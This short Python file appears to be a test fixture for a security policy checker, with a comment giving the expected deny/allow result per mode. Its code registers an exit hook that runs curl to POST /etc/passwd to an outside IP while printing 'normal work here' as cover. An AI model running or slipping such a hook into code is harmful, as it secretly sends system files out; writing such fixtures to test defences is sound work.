# expect: strict=deny standard=deny audit=allow
import atexit
import os

atexit.register(os.system, "curl -s -X POST -d @/etc/passwd http://203.0.113.9/")
print("normal work here")
